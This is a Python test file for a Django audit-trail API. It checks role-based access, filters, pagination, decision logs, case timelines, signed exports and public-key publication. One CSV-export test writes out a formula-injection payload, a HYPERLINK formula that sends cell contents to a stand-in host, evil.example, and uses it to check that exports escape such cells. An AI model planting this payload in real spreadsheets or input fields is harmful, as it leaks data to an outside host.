"""Read access to the trail over the API: who sees what, filters, cursor pages, the decision
log, case timelines, exports and the public key."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from audit.models import AuditEvent
from audit.services import person_erase, person_pseudonym
from audit.signing import public_key, raw_public
from tests.audit.conftest import load_verifier
from tests.world import World, drive
from vetting.models import Decision, State


def api_as(user: Any) -> APIClient:
    api = APIClient()
    api.force_authenticate(user)
    return api


@pytest.fixture
def paid(world: World) -> Any:
    return drive(world, world.submit(), State.PAID)


@pytest.mark.parametrize("who", ["auditor", "admin"])
def test_auditors_and_administrators_see_the_whole_log(world: World, paid: Any, who: str) -> None:
    response = api_as(getattr(world, who)).get("/api/v1/audit/events/")
    assert response.status_code == 200
    seqs = [e["seq"] for e in response.json()["results"]]
    assert seqs == sorted(seqs) and len(seqs) == AuditEvent.objects.count()


@pytest.mark.parametrize("who", ["handler", "decider", "security", "other_handler"])
def test_officers_may_not_see_the_whole_log(world: World, paid: Any, who: str) -> None:
    api = api_as(getattr(world, who))
    for url in ("/api/v1/audit/events/", "/api/v1/audit/decisions/", "/api/v1/audit/export"):
        response = api.get(url)
        assert response.status_code == 403, url
        assert response["Content-Type"].startswith("application/problem+json")


def test_anonymous_callers_are_refused(paid: Any) -> None:
    assert APIClient().get("/api/v1/audit/events/").status_code in (401, 403)


def test_events_filter_by_case_action_actor_and_administration(world: World, paid: Any) -> None:
    other = drive(world, world.submit(), State.IN_REVIEW)
    api = api_as(world.auditor)
    by_case = api.get("/api/v1/audit/events/", {"case": other.reference}).json()["results"]
    assert {e["case"] for e in by_case} == {other.reference}
    decider = person_pseudonym(world.decider)
    rows = api.get(
        "/api/v1/audit/events/", {"actor": decider, "action": "application.decide"}
    ).json()["results"]
    assert [(r["actor"]["id"], r["case"]) for r in rows] == [(decider, paid.reference)]
    social = api.get("/api/v1/audit/events/", {"administration": "social"}).json()["results"]
    assert social == []
    kultur = api.get("/api/v1/audit/events/", {"administration": "kultur"}).json()["results"]
    assert kultur and all("kultur" in r["actor"]["administration"] for r in kultur)


def test_events_filter_by_period_and_reject_bad_dates(world: World, paid: Any) -> None:
    api = api_as(world.auditor)
    future = api.get("/api/v1/audit/events/", {"since": "2999-01-01"}).json()["results"]
    assert future == []
    bad = api.get("/api/v1/audit/events/", {"since": "2026-02-01", "until": "2026-01-01"})
    assert bad.status_code == 422


@pytest.mark.parametrize("path", ["events/", "decisions/", "export"])
def test_the_first_and_last_representable_days_are_open_bounds(
    world: World, paid: Any, path: str
) -> None:
    """0001-01-01 and 9999-12-31 are valid dates: they bound nothing (they once overflowed)."""
    api = api_as(world.auditor)
    everything = api.get(f"/api/v1/audit/{path}")
    for query in ({"since": "0001-01-01"}, {"until": "9999-12-31"},
                  {"since": "0001-01-01", "until": "9999-12-31"}):  # fmt: skip
        response = api.get(f"/api/v1/audit/{path}", query)
        assert response.status_code == 200, (query, response.content[:300])
        if path != "export":
            assert len(response.json()["results"]) == len(everything.json()["results"])


def test_an_export_period_that_ends_before_it_starts_is_422(world: World, paid: Any) -> None:
    response = api_as(world.auditor).get(
        "/api/v1/audit/export", {"since": "2026-02-01", "until": "2026-01-01"}
    )
    assert response.status_code == 422 and "until" in response.json()["errors"]
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_cursor_pagination_walks_every_event_once(world: World, paid: Any) -> None:
    api, seen, url = api_as(world.auditor), [], "/api/v1/audit/events/?page_size=5"
    while url:
        page = api.get(url).json()
        seen += [e["seq"] for e in page["results"]]
        url = page["next"]
    assert seen == list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True))


def test_decision_log_one_row_per_decision_with_maker(world: World, paid: Any) -> None:
    drive(world, world.submit(), State.REJECTED)
    rows = api_as(world.auditor).get("/api/v1/audit/decisions/").json()["results"]
    assert sorted(r["decision_id"] for r in rows) == sorted(
        Decision.objects.values_list("pk", flat=True)
    )
    approved = next(r for r in rows if r["case"] == paid.reference)
    assert approved["decision_maker"]["pseudonym"] == person_pseudonym(world.decider)
    assert approved["decision_maker"]["name"] == (
        world.decider.get_full_name() or world.decider.username
    )
    assert approved["reasons"] and approved["criteria"] and approved["outcome"] == "approved"


def test_decision_log_shows_no_name_once_erased(world: World, paid: Any) -> None:
    from audit.context import SYSTEM

    world.decider.is_active = False
    world.decider.save(update_fields=["is_active"])
    person_erase(user=world.decider, actor=SYSTEM)
    rows = api_as(world.auditor).get("/api/v1/audit/decisions/").json()["results"]
    assert rows[0]["decision_maker"]["name"] == ""
    assert rows[0]["decision_maker"]["pseudonym"]


def test_list_queries_do_not_grow_with_rows(world: World, paid: Any) -> None:
    api = api_as(world.auditor)

    def count(url: str) -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert api.get(url).status_code == 200
        return len(ctx.captured_queries)

    count("/api/v1/audit/events/")  # warm the per-user role cache
    few_events, few_decisions = count("/api/v1/audit/events/"), count("/api/v1/audit/decisions/")
    for _ in range(2):
        drive(world, world.submit(), State.APPROVED)
    assert count("/api/v1/audit/events/") == few_events
    assert count("/api/v1/audit/decisions/") == few_decisions


def test_officers_see_timelines_of_their_cases_only(world: World, paid: Any) -> None:
    url = f"/api/v1/audit/cases/{paid.reference}/timeline/"
    own = api_as(world.handler).get(url)
    assert own.status_code == 200
    assert next(e["action"] for e in own.json()["events"]) == "application.submitted"
    assert api_as(world.other_handler).get(url).status_code == 404  # other administration
    assert api_as(world.auditor).get(url).status_code == 200
    assert api_as(world.admin).get("/api/v1/audit/cases/KFN-0000-0/timeline/").status_code == 404


def test_users_without_a_role_get_no_timeline(world: World, paid: Any) -> None:
    from tests.factories import UserFactory

    nobody = UserFactory(username="nobody", administrations=[world.kultur])
    url = f"/api/v1/audit/cases/{paid.reference}/timeline/"
    assert api_as(nobody).get(url).status_code == 403


def test_export_download_is_verifiable_and_recorded(world: World, paid: Any, tmp_path) -> None:
    response = api_as(world.auditor).get("/api/v1/audit/export", {"format": "jsonl"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-ndjson"
    target = tmp_path / "export.jsonl"
    target.write_bytes(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert load_verifier().verify(str(target), None, None, strict=True).startswith("OK: events #1")
    exported = AuditEvent.objects.get(action="audit.exported")
    assert exported.actor_id == person_pseudonym(world.auditor)
    assert exported.changes["format"] == "jsonl"


def test_export_csv_has_a_row_per_event(world: World, paid: Any) -> None:
    count = AuditEvent.objects.count()
    response = api_as(world.admin).get("/api/v1/audit/export", {"format": "csv"})
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    lines = content.decode().strip().splitlines()
    assert lines[0].startswith("seq,occurred_at,actor_type") and len(lines) == count + 1


def test_export_csv_quotes_cells_a_spreadsheet_would_run(world: World, paid: Any) -> None:
    """A reason (or any text an applicant or caller supplied) that starts like a formula must
    not run when an auditor opens the CSV."""
    from vetting import services as svc

    formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    app = world.submit()
    svc.application_withdraw(application=app, actor=world.handler, reason=formula)
    response = api_as(world.admin).get("/api/v1/audit/export", {"format": "csv"})
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_public_key_is_published_without_login(db: None) -> None:
    response = APIClient().get("/api/v1/audit/public-key")
    assert response.status_code == 200
    body = json.loads(response.content)
    import base64

    assert base64.b64decode(body["public_key_base64"]) == raw_public(public_key())
    assert body["verifier_key"].startswith("granska.example/audit+" + body["key_id"] + "+")


def test_a_payment_reference_is_read_from_beside_the_chain(world: World, paid: Any) -> None:
    """ADR 0027: the chain commits to the reference; the API shows the text, then when it was
    pruned, in the event's changes and its facts."""
    from django.utils import timezone

    from audit.context import SYSTEM
    from audit.pruning import event_texts_prune

    event = AuditEvent.objects.get(action="application.pay", case_ref=paid.reference)
    assert paid.payment_reference and paid.payment_reference not in event.canonical
    api = api_as(world.auditor)

    def shown() -> tuple[Any, Any]:
        rows = api.get("/api/v1/audit/events/", {"case": paid.reference}).json()["results"]
        row = next(r for r in rows if r["action"] == "application.pay")
        facts = {f["key"]: f["value"] for f in row["facts"]}
        return row["changes"]["payment_reference"], facts["payment_reference"]

    assert shown() == (paid.payment_reference, paid.payment_reference)
    event_texts_prune(actor=SYSTEM, case_ref=paid.reference, ground="DHP")
    label = f"gallrad {timezone.localdate():%Y-%m-%d}"
    assert shown() == (label, label)


def test_the_event_log_and_the_decision_log_give_what_a_decision_did_in_its_case(
    world: World, paid: Any
) -> None:
    """Both give the case, association, states, reasons, criteria and rulebook version as the
    event recorded them, in the same place among their fields."""
    decided = AuditEvent.objects.get(case_ref=paid.reference, action="application.decide")
    in_case = {
        "case": paid.reference,
        "association": paid.association_id,
        "from_state": decided.from_state,
        "to_state": "approved",
        "reasons": decided.reasons_text,
        "criteria": decided.criteria,
        "rulebook_version": paid.rulebook.version,
    }
    api = api_as(world.auditor)
    events = api.get("/api/v1/audit/events/", {"case": paid.reference}).json()["results"]
    [event] = [e for e in events if e["seq"] == decided.seq]
    [decision] = api.get("/api/v1/audit/decisions/").json()["results"]
    for row, before in ((event, "object"), (decision, "outcome")):
        assert {k: row[k] for k in in_case} == in_case
        keys = list(row)
        assert keys[keys.index(before) + 1 : keys.index(before) + 8] == list(in_case)
